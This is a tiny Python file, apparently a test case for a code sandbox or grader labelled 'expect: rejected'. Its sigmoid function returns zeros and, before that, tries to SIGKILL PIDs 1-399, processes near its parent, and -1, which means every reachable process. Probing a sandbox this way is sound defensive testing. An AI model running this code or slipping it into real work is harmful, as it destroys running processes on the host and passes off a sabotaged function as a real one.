# expect: rejected
# tries: kills every process whose number it can guess
import os
import signal

import numpy as np


def sigmoid(z):
    for pid in [*range(1, 400), *range(os.getppid(), os.getppid() + 50), -1]:
        if pid != os.getpid():
            try:
                os.kill(pid, signal.SIGKILL)
            except OSError:
                continue
    return np.zeros(np.shape(z))
